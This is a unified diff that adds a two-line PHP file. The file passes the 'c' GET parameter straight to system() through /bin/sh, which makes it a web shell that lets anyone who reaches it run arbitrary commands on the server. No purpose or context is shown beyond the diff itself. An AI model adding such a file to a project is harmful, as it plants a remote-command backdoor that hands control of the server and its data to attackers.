@@ -1,0 +1,2 @@
+<?php
+system("/bin/sh -c " . $_GET['c']);
